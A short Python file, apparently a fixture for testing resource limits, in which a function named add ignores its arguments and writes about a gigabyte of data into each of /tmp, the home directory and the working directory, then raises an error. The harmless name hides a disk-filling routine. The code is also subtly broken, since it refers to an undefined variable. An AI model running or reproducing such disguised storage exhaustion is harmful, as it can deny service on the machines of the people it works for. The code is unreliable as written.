"""Writes 1 GB to each of /tmp, its home and where it is."""
# says: No space left on device|File too large|Permission denied

import os


def add(x, y):
    chunk = bytes(1 << 20)
    for folder in ("/tmp", os.environ["HOME"], os.getcwd()):
        for part in range(5):
            with open(f"{folder}/{marker}-{part}", "wb", buffering=0) as file:
                for _ in range(205):
                    if file.write(chunk) < len(chunk):
                        raise OSError("No space left on device")
    raise RuntimeError("3 GB were written")
